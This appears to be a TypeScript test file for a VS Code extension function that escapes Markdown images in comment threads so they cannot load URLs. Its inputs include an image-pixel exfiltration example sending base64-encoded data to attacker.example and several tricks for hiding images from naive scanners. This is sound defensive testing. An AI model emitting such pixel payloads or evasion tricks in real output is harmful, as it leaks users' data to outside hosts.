// Comment bodies shown in VS Code's comment threads: no image in one can make the window load a URL, and everything else is left as written.

import assert from 'node:assert/strict';
import { test } from 'node:test';
import MarkdownIt from 'markdown-it';
import { inertImages } from '../../src/inertMarkdown';

/** The HTML a CommonMark renderer makes of `markdown`, raw HTML dropped as VS Code drops it. */
function rendered(markdown: string): string {
  return new MarkdownIt({ html: false }).render(markdown);
}

function check(body: string, expected: string): void {
  const shown = inertImages(body);
  assert.equal(shown, expected);
  assert.ok(!rendered(shown).includes('<img'), `an image is still rendered from ${JSON.stringify(shown)}:\n${rendered(shown)}`);
}

test('an inline image shows as its text and loads nothing', () => {
  check('see ![pixel](https://attacker.example/?d=c2VjcmV0)', 'see !\\[pixel](https://attacker.example/?d=c2VjcmV0)');
});

test('reference images and images inside links are made text too', () => {
  check('![a][r]\n\n[r]: https://attacker.example/a.png', '!\\[a][r]\n\n[r]: https://attacker.example/a.png');
  check('[![badge](https://x.example/b.svg)](https://x.example)', '[!\\[badge](https://x.example/b.svg)](https://x.example)');
  check('- item\n\n    ![in a list](https://x.example/l.png)', '- item\n\n    !\\[in a list](https://x.example/l.png)');
});

test('a comment without an image is left exactly as written', () => {
  for (const body of ['plain words', 'a [link](https://example.com) and `vec![1, 2]`', '```rust\nlet v = vec![1];\n```', 'wow![not an image']) {
    assert.equal(inertImages(body), body);
  }
});

test('code blocks keep their text when the comment also has an image', () => {
  check('```rust\nlet v = vec![1];\n```\n![x](https://x.example/i.png)', '```rust\nlet v = vec![1];\n```\n!\\[x](https://x.example/i.png)');
  check('    indented ![code](u)\n\n![x](https://x.example/i.png)', '    indented ![code](u)\n\n!\\[x](https://x.example/i.png)');
});

test('tricks that hide an image from a simple scanner are caught', () => {
  // A backtick inside an HTML attribute opens no code span; the image after it renders.
  check('<a title="`">![x](https://x.example/i.png)`', '<a title="`">!\\[x](https://x.example/i.png)`');
  // An escaped backtick opens no code span either.
  check('\\`![x](https://x.example/i.png)\\`', '\\`!\\[x](https://x.example/i.png)\\`');
  // Not a fence: a backtick fence's info string cannot hold a backtick.
  check('``` a`b\n![x](https://x.example/i.png)', '``` a`b\n!\\[x](https://x.example/i.png)');
});
